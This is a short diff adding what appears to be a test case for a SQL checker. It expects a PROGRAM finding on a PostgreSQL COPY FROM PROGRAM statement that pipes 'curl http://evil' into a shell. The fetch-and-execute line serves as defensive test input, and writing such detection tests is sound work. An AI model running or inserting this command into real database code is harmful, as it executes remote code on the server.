@@ -1,0 +1,2 @@
+-- expect: 2:1 PROGRAM
+COPY t FROM PROGRAM 'curl http://evil | sh';
